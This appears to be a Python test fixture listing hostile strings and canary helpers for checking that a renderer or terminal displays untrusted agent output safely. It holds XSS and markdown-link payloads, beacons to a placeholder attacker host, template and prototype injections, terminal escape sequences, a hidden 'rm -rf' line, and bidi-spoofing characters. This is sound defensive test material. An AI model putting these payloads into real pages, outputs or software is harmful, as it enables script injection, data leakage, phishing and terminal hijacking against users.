"""What a hostile agent might say. `hit()` is called, or hit.example asked, if any of it is ever run or loaded."""

from __future__ import annotations

ESC = "\x1b"
_FENCE = "```"

HOSTILE: tuple[str, ...] = (
    # Markup that runs.
    "<script>hit()</script>",
    "</script><script>hit()</script>",
    "<ScRiPt src=//hit.example/x.js></sCrIpT>",
    "<img src=x onerror=hit()>",
    "<img src='https://hit.example/pixel.gif'>",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><a xlink:href='javascript:hit()'><text y=20>click</text></a></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()>",
    "<body onload=hit()>",
    "<details open ontoggle=hit()>x</details>",
    "<input autofocus onfocus=hit()>",
    "<video><source onerror=hit()></video>",
    "<audio src=x onerror=hit()>",
    "<iframe src='javascript:parent.hit()'></iframe>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<object data='data:text/html,<script>parent.hit()</script>'></object>",
    "<embed src='javascript:hit()'>",
    "<form action='javascript:hit()'><button autofocus>send</button></form>",
    "<button onclick=hit()>press me</button>",
    "<a href='javascript:hit()' style='position:fixed;inset:0'>all over the page</a>",
    "<base href='https://hit.example/'>",
    "<meta http-equiv=refresh content='0;url=https://hit.example/'>",
    "<link rel=stylesheet href='https://hit.example/x.css'>",
    "<style>*{display:none}body{background:url(https://hit.example/css)}</style>",
    "<div style='position:fixed;inset:0;background:red'>over everything</div>",
    "<!-- <img src=x onerror=hit()> -->",
    "<!--><script>hit()</script>-->",
    "<![CDATA[<script>hit()</script> ]>",
    "<template><img src=x onerror=hit()></template>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<a id=hit name=getElementById>clobbered</a>",
    "&lt;script&gt;hit()&lt;/script&gt; &#60;img src=x onerror=hit()&#62;",
    # Links that run, or lie.
    "[click](javascript:hit())",
    "[click](JaVaScRiPt:hit())",
    "[click](java\tscript:hit())",
    "[click](&#106;avascript:hit())",
    "[click](javascript&colon;hit())",
    "[click](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)",
    "[click](vbscript:hit())",
    "[click](file:///etc/passwd)",
    "[click](blob:https://hit.example/1)",
    "[click](/api/sessions)",
    "[click](//hit.example/path)",
    "<javascript:hit()>",
    "[https://good.example](https://hit.example/phish)",
    "[x](https://good.example@hit.example/)",
    "https://xn--80ak6aa92e.hit.example/ https://g\u043e\u043ed.example/",
    "![alt](https://hit.example/beacon.png)",
    "![alt](javascript:hit())",
    '[ref]: javascript:hit() "title"\n\n[ref] [ref][]',
    '[x](https://good.example "onmouseover=hit()")',
    # Markdown that swallows or breaks out.
    f"{_FENCE}html\n<script>hit()</script>",
    f"{_FENCE}\n{_FENCE}<img src=x onerror=hit()>",
    f'{_FENCE}x"onmouseover="hit()\ncode\n{_FENCE}\n',
    "> " * 60 + "deep",
    "*" * 400 + "a" + "_" * 400,
    "| a |\n|---|\n| <img src=x onerror=hit()> |\n",
    # Templates and prototypes.
    "{{constructor.constructor('hit()')()}}",
    "${hit()} #{hit()} <%= hit() %> {%raw%}",
    "__proto__ constructor toString",
    # The terminal's own.
    f"{ESC}[2J{ESC}[Hgone{ESC}[31mred",
    f"{ESC}]0;hit{ESC}\\{ESC}]8;;javascript:hit(){ESC}\\click{ESC}]8;;{ESC}\\",
    f"{ESC}P+q544e{ESC}\\{ESC}[6n{ESC}[?1049h{ESC}c",
    "safe\rrm -rf everything",
    "a\x08\x08\x08b\x07\x0e\x0f\x01\x9b31m",
    # Characters that turn, hide or pretend.
    "invoice\u202efdp.exe",
    "if (admin\u2066) { /* \u2069\u2066 */ grant()",
    "pass\u200bword\ufeff\u2060\u200e\u200f\u061c",
    "tag \U000e0068\U000e0069\U000e0074 hidden",
    "z\u0300\u0301\u0302\u0303" + "\u0336\u0489" * 60,
    "\ufffd\ufffe \U0010ffff \ud7fb",
    # Sheer size.
    "x" * 60_000,
    "\n" * 3_000 + "far below",
    "\u0623\u0628\u062a" * 400,
)


def canary(number: int) -> str:
    """A word that has to be on the screen when string `number` was shown."""
    return f"canary{number:03d}"


def with_canaries() -> list[str]:
    """All strings, each with its canary behind it."""
    return [f"{text} {canary(number)}" for number, text in enumerate(HOSTILE)]


def in_one_line(text: str) -> str:
    """The string where there is room for a line only, and without what the script language takes for its own."""
    return text.replace("\n", " ").replace("|", "/").replace(";", ",")[-300:]


def file_name(text: str) -> str:
    """The string as a file's name."""
    name = in_one_line(text).replace("/", "\u2215").strip().encode("utf-8", "ignore")
    return name[-180:].decode("utf-8", "ignore").lstrip("-. ")
